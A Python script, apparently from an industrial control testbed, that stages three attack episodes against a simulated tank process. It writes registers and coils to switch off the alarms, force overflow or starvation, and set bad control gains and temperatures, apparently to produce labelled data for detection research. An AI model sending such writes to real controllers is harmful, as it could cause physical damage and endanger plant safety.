"""Unauthorised writes with values the operator never writes."""

from attacks.episode import arguments, episode, ports, write_coil, write_register
from attacks.writing import write_all
from hosts import tank

# What it does, requests, rounds, seconds between two writes.
WRITES = {
    1: (
        "alarm limits off, level 98.5 %, outlet shut, manual mode, pump at full speed",
        (
            write_register(tank.ALARM_HIGH, 1000),
            write_register(tank.ALARM_LOW, 0),
            write_register(tank.LEVEL_SETPOINT, 985),
            write_coil(tank.OUTLET, False),
            write_register(tank.MODE, 0),
            write_register(tank.MANUAL_SPEED, 1000),
            write_coil(tank.HEATER, False),
        ),
        4,
        0.4,
    ),
    2: (
        "gains of the level control set wrong, temperature 95 C",
        (
            write_register(tank.KP, 5000),
            write_register(tank.KI, 0),
            write_register(tank.TEMPERATURE_SETPOINT, 950),
        ),
        3,
        1.2,
    ),
    3: (
        "inlet shut, pump in manual mode at no speed, low alarm off",
        (
            write_coil(tank.INLET, False),
            write_register(tank.ALARM_LOW, 0),
            write_register(tank.MODE, 0),
            write_register(tank.MANUAL_SPEED, 0),
        ),
        8,
        0.2,
    ),
}

if __name__ == "__main__":
    given = arguments(__doc__)
    opened: list[int] = []
    description, *writes = WRITES[given.number]
    with episode(given.log, f"write_outside_habit_{given.number}", description, [ports(opened)]):
        write_all(opened, *writes)
